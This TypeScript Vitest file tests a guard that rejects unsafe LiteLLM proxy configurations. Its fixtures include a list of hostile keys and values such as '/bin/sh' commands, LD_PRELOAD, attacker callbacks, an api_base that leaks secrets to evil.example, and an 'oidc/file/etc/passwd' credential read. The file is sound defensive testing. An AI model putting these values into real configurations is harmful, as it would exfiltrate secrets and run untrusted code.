import { describe, expect, it } from "vitest";
import { guard, MODEL, pathsOf } from "./guarded.ts";
import { configWith } from "./support.ts";

describe("the closed schema", () => {
  it("lets through all that it names", () => {
    const config = {
      model_list: [
        {
          model_name: "gpt-4",
          litellm_params: {
            model: "azure/gpt-4",
            api_base: "https://prod.openai.azure.com",
            api_version: "2024-02-15-preview",
            api_key: "os.environ/AZURE_PROD_API_KEY",
            rpm: 60,
            tpm: 1000,
            timeout: 30.5,
            max_tokens: 10,
            temperature: 0.2,
            weight: 2,
            order: 1,
          },
          model_info: { id: "one", mode: "chat" },
        },
        {
          model_name: "llama3",
          litellm_params: {
            model: "ollama/llama3:70b",
            api_base: "http://ollama.company.internal:11434",
          },
        },
        {
          model_name: "o",
          litellm_params: { model: "openai/gpt-4o", api_key: "env:OPENAI_API_KEY" },
        },
        {
          model_name: "g",
          litellm_params: { model: "groq/llama3", api_key: "${env.GROQ_API_KEY}", api_base: null },
        },
        {
          model_name: "claude",
          litellm_params: { model: "bedrock/anthropic.claude-3-5-sonnet-20240620-v1:0" },
        },
      ],
      router_settings: {
        routing_strategy: "least-busy",
        num_retries: 3,
        timeout: 600,
        fallbacks: [{ "gpt-4": ["llama3"] }],
        model_group_alias: { best: "gpt-4", hidden: { model: "o", hidden: true } },
        allowed_fails: 3,
        cooldown_time: 30,
      },
      litellm_settings: {
        drop_params: true,
        num_retries: 3,
        request_timeout: 60,
        fallbacks: [{ "gpt-4": ["o"] }],
        context_window_fallbacks: [{ "gpt-4": ["o"] }],
        success_callback: ["langfuse", "prometheus"],
        failure_callback: ["langfuse"],
        callbacks: ["datadog"],
      },
      environment_variables: {
        LANGFUSE_PUBLIC_KEY: "pk-lf-team",
        LANGFUSE_SECRET_KEY: "sk-lf-team",
        LANGFUSE_HOST: "https://langfuse.company.example",
        DD_SITE: "us5.datadoghq.com",
      },
    };
    expect(guard(config)).toBeNull();
    expect(guard({})).toBeNull();
  });

  // Every key that runs, reads, writes, sets or sends (faults.md, remote settings).
  const HOSTILE: readonly (readonly [string, object])[] = [
    ...[
      "custom_auth",
      "custom_key_generate",
      "custom_sso",
      "custom_ui_sso_sign_in_handler",
      "key_management_settings",
      "master_key",
      "database_url",
      "alerting",
      "alert_to_webhook_url",
      "pass_through_endpoints",
      "forward_client_headers_to_llm_api",
      "allow_client_side_credentials",
      "dangerously_permit_weak_or_unset_master_key",
      "public_routes",
      "allowed_routes",
    ].map((key) => ["general_settings", { general_settings: { [key]: "evil.module" } }] as const),
    ...[
      "post_call_rules",
      "custom_provider_map",
      "ssl_verify",
      "ssl_certificate",
      "global_prompt_directory",
      "cache",
      "cache_params",
      "global_gitlab_config",
      "callback_settings",
      "api_base",
      "set_verbose",
      "ui_logo_path",
    ].map(
      (key) => [`litellm_settings.${key}`, { litellm_settings: { [key]: "evil.module" } }] as const,
    ),
    ...[
      "include",
      "guardrails",
      "prompts",
      "mcp_servers",
      "mcp_tools",
      "credential_list",
      "vector_store_registry",
      "sidelite",
      "finetune_settings",
      "files_settings",
      "assistant_settings",
    ].map((key) => [key, { [key]: [{ command: "/bin/sh" }] }] as const),
    ...["plugins", "redis_host", "redis_url", "default_litellm_params", "cache_kwargs"].map(
      (key) => [`router_settings.${key}`, { router_settings: { [key]: "x" } }] as const,
    ),
    ["litellm_settings.callbacks", { litellm_settings: { callbacks: "evil_module.handler" } }],
    [
      "litellm_settings.success_callback[0]",
      { litellm_settings: { success_callback: ["s3://bucket/evil.py"] } },
    ],
    [
      "litellm_settings.failure_callback[1]",
      { litellm_settings: { failure_callback: ["langfuse", "/tmp/evil"] } },
    ],
    ...[
      "LD_PRELOAD",
      "PYTHONPATH",
      "HTTPS_PROXY",
      "SSL_CERT_FILE",
      "AWS_PROFILE",
      "LITELLM_MASTER_KEY",
      "LITELLM_WORKER_STARTUP_HOOKS",
      "LITELLM_CONFIG_BUCKET_NAME",
      "WORKER_CONFIG",
      "CONFIG_FILE_PATH",
      "USE_AWS_KMS",
      "UI_LOGO_PATH",
      "LANGFUSE_HOST",
    ].map(
      (key) => [`environment_variables.${key}`, { environment_variables: { [key]: "x" } }] as const,
    ),
  ];

  it.each(HOSTILE)("S21: refuses %s in %j", (path, config) => {
    const error = guard(configWith({}, config));
    expect(error?.exitCode).toBe(8);
    expect(pathsOf(error)).toContain(`settings.litellm_config.${path}`);
    expect(error?.problems.every(({ remedy }) => remedy !== undefined)).toBe(true);
  });

  it.each([
    "base_url",
    "vertex_credentials",
    "aws_profile_name",
    "aws_role_name",
    "extra_headers",
    "headers",
    "configurable_clientside_auth_params",
    "custom_llm_provider",
    "ssl_verify",
    "mock_response",
    "organization",
    "auto_router_config_path",
    "litellm_credential_name",
    "api_keyy",
  ])("S21: refuses litellm_params.%s", (key) => {
    const error = guard(configWith({ [key]: "x" }));
    expect(error?.exitCode).toBe(8);
    expect(pathsOf(error)).toEqual([`${MODEL}.${key}`]);
  });

  it.each([
    ["ollama/llama3", {}],
    ["openai/my-ollama", {}],
    ["vllm/x", {}],
    ["petals/x", {}],
    ["github_copilot/gpt-4", {}],
    ["chatgpt/gpt-4", { api_base: "https://api.openai.com" }],
    ["dotprompt/x", {}],
    ["auto_router/x", {}],
    ["litellm_proxy/x", { api_base: "https://api.openai.com" }],
    ["custom/x", {}],
    ["no-such-provider/x", {}],
  ])("refuses the model %s with %j", (model, rest) => {
    const error = guard(configWith({ model, api_key: null, ...rest }));
    expect(error?.exitCode).toBe(8);
    expect(pathsOf(error)).toEqual([`${MODEL}.model`]);
  });

  it("refuses a key in clear without showing it", () => {
    const error = guard(configWith({ api_key: "sk-canary-1234567890" }));
    expect(error?.exitCode).toBe(8);
    expect(JSON.stringify(error?.problems)).not.toContain("canary");
  });

  it.each([
    ["model", "openai/${env.SECRET}", "model"],
    ["api_version", "os.environ/SECRET", "api_version"],
    ["api_base", "https://evil.example/${env.SECRET}", "api_base"],
    ["api_base", "os.environ/SECRET", "api_base"],
    ["api_key", "oidc/file/etc/passwd", "api_key"],
    ["api_key", "os.environ/oidc/env/X", "api_key"],
    ["api_key", "${env.X:=sk-literal}", "api_key"],
    ["model", "openai/oidc", null],
  ])("refuses a reference in %s: %s", (key, value, at) => {
    const error = guard(configWith({ [key]: value }));
    expect(pathsOf(error)).toEqual(at === null ? [] : [`${MODEL}.${at}`]);
    expect(error?.exitCode).toBe(at === null ? undefined : 8);
  });

  it("refuses a reference in names and in variables", () => {
    const config = {
      model_list: [{ model_name: "${env.SECRET}", litellm_params: { model: "openai/x" } }],
      router_settings: { model_group_alias: { "${env.A}": "os.environ/B" } },
      litellm_settings: { callbacks: ["langfuse"] },
      environment_variables: {
        LANGFUSE_HOST: "https://evil.example/${env.OPENAI_API_KEY}",
        LANGFUSE_PUBLIC_KEY: "os.environ/OPENAI_API_KEY",
        LANGFUSE_RELEASE: "os.environ/LANGFUSE_SECRET_KEY",
      },
    };
    const error = guard(config);
    expect(error?.exitCode).toBe(8);
    expect(pathsOf(error)).toEqual(
      expect.arrayContaining([
        "settings.litellm_config.model_list[0].model_name",
        'settings.litellm_config.router_settings.model_group_alias["${env.A}"]',
        "settings.litellm_config.environment_variables.LANGFUSE_PUBLIC_KEY",
        "settings.litellm_config.environment_variables.LANGFUSE_RELEASE",
        "settings.litellm_config.environment_variables.LANGFUSE_HOST",
      ]),
    );
  });
});
